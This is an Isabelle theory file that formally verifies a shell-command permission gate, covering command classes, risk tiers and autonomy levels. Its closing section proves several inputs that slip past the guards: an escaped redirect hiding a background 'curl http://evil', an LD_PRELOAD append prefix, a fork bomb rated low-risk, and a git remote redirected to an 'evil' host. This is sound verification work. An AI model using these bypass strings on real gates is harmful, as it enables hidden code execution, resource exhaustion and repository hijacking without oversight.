(* ===== verification/Command_Facts.thy ===== *)
theory Command_Facts
  imports Command_Checks
begin

text \<open>
  What the command side of the security policy guarantees: the class of a command bounds
  the class of all its segments, the gate is monotone in the class and the tier, the two
  risk scales agree, and a command that passes the allowlist or the read-only tier runs
  only the programs these name.  The last section records, as closed theorems, inputs on
  which the code does less than its comments say.
\<close>

section \<open>The class of a command\<close>

definition command_classes :: "string \<Rightarrow> command_class list" where
  "command_classes command = List.map_filter segment_class (split_unquoted_segments command)"

definition writes_file :: "string \<Rightarrow> bool" where
  "writes_file command = (contains_unquoted_char command (CHR ''>'') \<or> mentions_tee command)"

lemma foldl_class_step:
  "foldl class_step k segs = Max (insert k (set (List.map_filter segment_class segs)))"
proof (induction segs arbitrary: k)
  case (Cons s segs)
  show ?case
  proof (cases "segment_class s")
    case None
    with Cons show ?thesis by (simp add: class_step_def List.map_filter_simps)
  next
    case (Some c)
    have "Max (insert (max k c) (set (List.map_filter segment_class segs)))
        = Max (insert k (insert c (set (List.map_filter segment_class segs))))"
      by (cases "set (List.map_filter segment_class segs) = {}")
         (auto simp: Max_insert max.assoc)
    with Some Cons show ?thesis by (simp add: class_step_def List.map_filter_simps)
  qed
qed (simp add: List.map_filter_simps)

lemma classify_command_Max:
  "classify_command command =
     Max (insert Class_Read (set (command_classes command) \<union>
       (if writes_file command then {Class_Write} else {})))"
proof -
  let ?S = "set (command_classes command)"
  have fold: "foldl class_step Class_Read (split_unquoted_segments command) = Max (insert Class_Read ?S)"
    by (simp add: foldl_class_step command_classes_def)
  have "insert Class_Read (?S \<union> {Class_Write}) = insert Class_Write (insert Class_Read ?S)"
    by auto
  then have "max (Max (insert Class_Read ?S)) Class_Write = Max (insert Class_Read (?S \<union> {Class_Write}))"
    by (simp only: Max_insert finite_insert finite_set insert_not_empty max.commute simp_thms)
  with fold show ?thesis by (auto simp: classify_command_def writes_file_def Let_def)
qed

lemma segment_le_classify:
  "s \<in> set (split_unquoted_segments command) \<Longrightarrow> segment_class s = Some k \<Longrightarrow>
     k \<le> classify_command command"
  unfolding classify_command_Max command_classes_def
  by (intro Max_ge) (auto simp: List.map_filter_def image_iff intro!: bexI[of _ s])


lemma classify_command_le:
  "(\<And>s k. s \<in> set (split_unquoted_segments c) \<Longrightarrow> segment_class s = Some k \<Longrightarrow> k \<le> b) \<Longrightarrow>
     (writes_file c \<Longrightarrow> Class_Write \<le> b) \<Longrightarrow> classify_command c \<le> b"
  unfolding classify_command_Max command_classes_def
  by (subst Max_le_iff) (auto simp: List.map_filter_def)

section \<open>Classes of single segments\<close>

definition read_only_invocation :: "string \<Rightarrow> string list \<Rightarrow> bool" where
  "read_only_invocation base args =
     (base \<in> set READ_ONLY_BASES \<or> base = ''find'' \<or>
      base = ''git'' \<and> (\<exists>v. first args = Some v \<and> v \<in> set GIT_READ_VERBS) \<or>
      base \<in> {''npm'', ''pnpm'', ''yarn''} \<and> (\<exists>v. first args = Some v \<and> v \<in> set NODE_PKG_READ_VERBS) \<or>
      base = ''cargo'' \<and> (\<exists>v. first args = Some v \<and> v \<in> set CARGO_READ_VERBS))"

lemma verb_class_Read: "verb_class args vs = Class_Read \<longleftrightarrow> (\<exists>v. first args = Some v \<and> v \<in> set vs)"
  by (auto simp: verb_class_def split: option.splits)

lemma classify_segment_Read:
  assumes "classify_segment base args joined = Class_Read"
  shows "read_only_invocation base args" and "\<not> catastrophic_pattern joined"
    and "base \<notin> set DESTRUCTIVE_BASES" and "base \<notin> set NETWORK_BASES"
    and "\<not> is_install_command base args" and "\<not> is_command_executor base"
  using assms
  by (auto simp: classify_segment_def read_only_invocation_def verb_class_Read split: if_splits)

lemma high_risk_destructive: "set high_risk_bases \<subseteq> set DESTRUCTIVE_BASES"
  by (simp add: high_risk_bases_def DESTRUCTIVE_BASES_def)

lemma medium_bases_not_read: "set medium_bases \<inter> set READ_ONLY_BASES = {}"
  by (simp add: medium_bases_def READ_ONLY_BASES_def)

lemma special_bases_not_medium: "{''find'', ''git'', ''npm'', ''pnpm'', ''yarn'', ''cargo''} \<inter> set medium_bases = {}"
  by (simp add: medium_bases_def)

lemma special_bases_not_read: "{''git'', ''npm'', ''pnpm'', ''yarn'', ''cargo''} \<inter> set READ_ONLY_BASES = {}"
  by (simp add: READ_ONLY_BASES_def)

lemma medium_verbs_not_read:
  "set git_medium_verbs \<inter> set GIT_READ_VERBS = {}"
  "set node_medium_verbs \<inter> set NODE_PKG_READ_VERBS = {}"
  "set cargo_medium_verbs \<inter> set CARGO_READ_VERBS = {}"
  by (simp_all add: git_medium_verbs_def GIT_READ_VERBS_def node_medium_verbs_def
      NODE_PKG_READ_VERBS_def cargo_medium_verbs_def CARGO_READ_VERBS_def)

lemma medium_risk_not_Read:
  assumes "medium_risk base args"
  shows "classify_segment base args joined \<noteq> Class_Read"
proof
  assume R: "classify_segment base args joined = Class_Read"
  note facts = classify_segment_Read[OF R]
  show False
    using assms facts(1,6) medium_verbs_not_read medium_bases_not_read special_bases_not_medium
      special_bases_not_read
    by (auto simp: medium_risk_def read_only_invocation_def is_some_and_iff split: if_splits)
qed

lemma high_risk_Destructive:
  "base \<in> set high_risk_bases \<or> catastrophic_pattern joined \<Longrightarrow>
     classify_segment base args joined = Class_Destructive"
  using high_risk_destructive unfolding classify_segment_def by (simp only: subset_iff if_True simp_thms split: if_split) blast

section \<open>The two risk scales\<close>

lemma risk_go_High:
  "risk_go m segs = Risk_High \<Longrightarrow> \<exists>s \<in> set segs. segment_class s = Some Class_Destructive"
proof (induction m segs rule: risk_go.induct)
  case (2 m s segs)
  show ?case
  proof (cases "split_whitespace (skip_env_assignments s)")
    case Nil
    with "2" show ?thesis by (simp add: Let_def)
  next
    case (Cons b ws)
    show ?thesis
    proof (cases "normalized_command_name b \<in> set high_risk_bases \<or>
        catastrophic_pattern (to_ascii_lowercase (skip_env_assignments s))")
      case True
      then have "segment_class s = Some Class_Destructive"
        using Cons by (simp add: segment_class_def Let_def high_risk_Destructive)
      then show ?thesis by auto
    next
      case False
      with "2.prems" Cons have "risk_go (m \<or> medium_risk (normalized_command_name b)
          (map to_ascii_lowercase ws)) segs = Risk_High" by (simp add: Let_def)
      with "2.IH"(2)[OF refl Cons refl refl refl] False show ?thesis by auto
    qed
  qed
qed (simp split: if_splits)

lemma risk_go_Medium:
  "risk_go m segs = Risk_Medium \<Longrightarrow>
     m \<or> (\<exists>s \<in> set segs. \<exists>k. segment_class s = Some k \<and> k \<noteq> Class_Read)"
proof (induction m segs rule: risk_go.induct)
  case (2 m s segs)
  show ?case
  proof (cases "split_whitespace (skip_env_assignments s)")
    case Nil
    with "2" show ?thesis by (auto simp: Let_def)
  next
    case (Cons b ws)
    let ?base = "normalized_command_name b" and ?args = "map to_ascii_lowercase ws"
    have nh: "?base \<notin> set high_risk_bases"
      "\<not> catastrophic_pattern (to_ascii_lowercase (skip_env_assignments s))"
      and go: "risk_go (m \<or> medium_risk ?base ?args) segs = Risk_Medium"
      using "2.prems" Cons by (auto simp: Let_def split: if_splits)
    have "medium_risk ?base ?args \<Longrightarrow> \<exists>k. segment_class s = Some k \<and> k \<noteq> Class_Read"
      using Cons medium_risk_not_Read by (simp add: segment_class_def Let_def)
    with "2.IH"(2)[OF refl Cons refl refl refl nh go] show ?thesis by auto
  qed
qed (simp split: if_splits)

lemma high_risk_is_destructive:
  "command_risk_level c = Risk_High \<Longrightarrow> classify_command c = Class_Destructive"
  using risk_go_High segment_le_classify
  by (metis class_le_Destructive command_risk_level_def order_antisym)

lemma risk_implies_acting:
  assumes "command_risk_level c \<noteq> Risk_Low" shows "classify_command c \<noteq> Class_Read"
proof (cases "command_risk_level c")
  case Risk_Medium
  then obtain s k where "s \<in> set (split_unquoted_segments c)" "segment_class s = Some k" "k \<noteq> Class_Read"
    using risk_go_Medium unfolding command_risk_level_def by blast
  then show ?thesis using segment_le_classify class_le_Read_iff by metis
next
  case Risk_High
  then show ?thesis by (simp add: high_risk_is_destructive)
qed (use assms in simp)

section \<open>The gate as an interface\<close>

text \<open>
  A gate maps an ordered class to a decision.  Escalate-only declared classes are sound for
  every gate that is monotone: raising the class never relaxes the decision.
\<close>

locale escalation_gate =
  fixes decide :: "command_class \<Rightarrow> gate_decision"
  assumes decide_mono: "a \<le> b \<Longrightarrow> decide a \<le> decide b"
begin

lemma declared_never_relaxes: "decide floor \<le> decide (max floor declared)"
  by (rule decide_mono) simp

lemma strictest_segment:
  "s \<in> set (split_unquoted_segments c) \<Longrightarrow> segment_class s = Some k \<Longrightarrow>
     decide k \<le> decide (classify_command c)"
  by (rule decide_mono) (rule segment_le_classify)

lemma allow_downward: "decide b = Gate_Allow \<Longrightarrow> a \<le> b \<Longrightarrow> decide a = Gate_Allow"
  using decide_mono[of a b] by (cases "decide a") (auto simp: rank_simps)

end

lemma gate_matrix_mono: "a \<le> b \<Longrightarrow> gate_matrix l a \<le> gate_matrix l b"
  by (cases l; cases a; cases b) (simp_all add: rank_simps)

interpretation policy_gate: escalation_gate "gate_decision_of policy" for policy
  by unfold_locales (simp add: gate_decision_of_def gate_matrix_mono)

section \<open>What passes the checks\<close>









section \<open>Properties\<close>

text \<open>The splitter's segments are atomic: none is empty or padded, and none contains an
  unquoted separator, since splitting a segment again gives the segment itself.  Whatever the
  later checks decide on a segment they decide on one simple command.\<close>

theorem split_segments_atomic:
  assumes "x \<in> set (split_unquoted_segments s)"
  shows "x \<noteq> [] \<and> trim x = x \<and> split_unquoted_segments x = [x]"
  using split_unquoted_segments_ok[OF assms] segment_atomic[OF assms] by simp

theorem split_segments_atomic_witness:
  "split_unquoted_segments ''ls -l'' = [''ls -l''] \<and>
   ''ls -l'' \<in> set (split_unquoted_segments ''ls -l | cat'')"
proof -
  have h: "''ls -l'' \<in> set (split_unquoted_segments ''ls -l | cat'')" by code_simp
  show ?thesis using h split_segments_atomic[OF h] by simp
qed

text \<open>The segments, in order, are a subsequence of the command: the splitter drops
  separators and padding and invents nothing.\<close>

theorem split_segments_subsequence: "subseq (concat (split_unquoted_segments command)) command"
  by (rule segments_subseq)

text \<open>The search for an unquoted character is the reference reading of the command: it
  answers yes exactly when the character occurs outside quotes and unescaped.\<close>

theorem unquoted_char_is_live_char:
  assumes "target \<notin> {BS, SQ, DQ}"
  shows "contains_unquoted_char command target \<longleftrightarrow> target \<in> fst ` set (live_chars command)"
  using assms by (rule contains_unquoted_char_live)

theorem unquoted_char_is_live_char_witness:
  "CHR ''>'' \<in> fst ` set (live_chars ''echo a > b'')"
proof -
  have h: "CHR ''>'' \<notin> {BS, SQ, DQ}" by simp
  have "contains_unquoted_char ''echo a > b'' (CHR ''>'')" by code_simp
  then show ?thesis using unquoted_char_is_live_char[OF h, of "''echo a > b''"] by simp
qed

text \<open>The two ampersand searches agree on commands without redirects, and the background
  search is never the more suspicious one: what it flags the single-ampersand search flags.\<close>

theorem ampersand_searches_agree:
  "(contains_unquoted_background_ampersand c \<longrightarrow> contains_unquoted_single_ampersand c) \<and>
   (CHR ''>'' \<notin> set c \<longrightarrow>
      contains_unquoted_single_ampersand c = contains_unquoted_background_ampersand c)"
  using background_imp_single single_eq_background by blast

theorem ampersand_searches_agree_witness:
  "contains_unquoted_background_ampersand ''a & b'' \<and> contains_unquoted_single_ampersand ''a & b''"
proof -
  have h: "contains_unquoted_background_ampersand ''a & b''" by code_simp
  show ?thesis using h ampersand_searches_agree[of "''a & b''"] by simp
qed

text \<open>The class of a command is the least upper bound of the classes of its segments,
  raised to \<open>Write\<close> when the command redirects output or pipes into \<open>tee\<close>.\<close>

theorem classify_command_is_lub:
  "classify_command command =
     Max (insert Class_Read (set (command_classes command) \<union>
       (if writes_file command then {Class_Write} else {})))"
  by (rule classify_command_Max)

text \<open>The risk scale and the class scale agree: a high-risk command is of the destructive
  class, and any command that is not low-risk has an acting class, so that no tier but
  \<open>Full\<close> runs it without asking and no tier at all runs a high-risk one without asking.\<close>

theorem risky_commands_are_gated:
  assumes "command_risk_level c \<noteq> Risk_Low"
    and "autonomy p \<noteq> Full \<or> command_risk_level c = Risk_High"
  shows "gate_decision_of p (classify_command c) \<noteq> Gate_Allow"
proof (cases "command_risk_level c = Risk_High")
  case True
  then show ?thesis
    by (cases "autonomy p") (simp_all add: gate_decision_of_def high_risk_is_destructive)
next
  case False
  with assms show ?thesis
    using risk_implies_acting[OF assms(1)]
    by (cases "autonomy p"; cases "classify_command c") (simp_all add: gate_decision_of_def)
qed

theorem risky_commands_are_gated_witness:
  "gate_decision_of default_policy (classify_command ''sudo ls'') \<noteq> Gate_Allow"
proof -
  have r: "command_risk_level ''sudo ls'' = Risk_High" by code_simp
  show ?thesis by (rule risky_commands_are_gated) (simp_all add: r)
qed

text \<open>The gate is monotone: a declared class can only escalate the decision, every
  segment's own decision is at most the command's, and a stricter tier is stricter on every
  class.\<close>

theorem gate_escalates_only:
  "gate_decision_of p floor \<le> gate_decision_of p (max floor declared) \<and>
   (\<forall>k \<in> set (command_classes c). gate_decision_of p k \<le> gate_decision_of p (classify_command c)) \<and>
   gate_matrix Full k' \<le> gate_matrix Supervised k' \<and>
   gate_matrix Supervised k' \<le> gate_matrix ReadOnly k'"
proof (intro conjI ballI)
  show "gate_decision_of p floor \<le> gate_decision_of p (max floor declared)"
    by (rule policy_gate.declared_never_relaxes)
  fix k assume "k \<in> set (command_classes c)"
  then obtain s where "s \<in> set (split_unquoted_segments c)" "segment_class s = Some k"
    by (auto simp: command_classes_def List.map_filter_def)
  then show "gate_decision_of p k \<le> gate_decision_of p (classify_command c)"
    by (rule policy_gate.strictest_segment)
qed (cases k'; simp add: rank_simps)+

theorem gate_escalates_only_witness:
  "gate_decision_of default_policy Class_Network \<le>
     gate_decision_of default_policy (classify_command ''ls | curl x'')"
proof -
  have h: "Class_Network \<in> set (command_classes ''ls | curl x'')" by code_simp
  show ?thesis using h gate_escalates_only[of default_policy Class_Read Class_Read "''ls | curl x''"] by blast
qed







section \<open>Gaps in the guards\<close>

text \<open>
  An escaped \<open>>\<close> leaves \<open>prev\<close> at that character, so the ampersand after it is taken for a
  redirect: the shell runs a second command in the background, the structural guard sees
  nothing, the class is \<open>Read\<close>, and the supervised gate allows it without a prompt.
\<close>

definition escaped_redirect :: string where
  "escaped_redirect = ''echo '' @ [BS] @ ''>&curl http://evil''"

theorem escaped_redirect_hides_background:
  "\<not> has_hidden_execution escaped_redirect \<and> contains_unquoted_single_ampersand escaped_redirect \<and>
   check_gated_command default_policy escaped_redirect = Inr Class_Read \<and>
   gate_decision_of default_policy Class_Read = Gate_Allow"
  by code_simp

text \<open>
  An appending assignment (\<open>NAME+=value\<close>) is not recognised as an environment prefix, but
  \<open>skip_env_assignments\<close> skips it: the allowlist accepts the command with its prefix.
\<close>

theorem append_assignment_passes_allowlist:
  "is_command_allowed default_policy ''LD_PRELOAD+=./x.so ls''"
  by code_simp

text \<open>
  The fork bomb contains separators, so no segment contains the pattern meant for it: it is
  classified as an ordinary write of low risk.
\<close>

theorem fork_bomb_is_not_caught:
  "command_risk_level '':(){:|:&};:'' = Risk_Low \<and> classify_command '':(){:|:&};:'' = Class_Write"
  by code_simp

text \<open>\<open>git remote\<close> is a read verb whatever follows it.\<close>

theorem git_remote_set_url_is_read:
  "classify_command ''git remote set-url origin http://evil'' = Class_Read"
  by code_simp

end
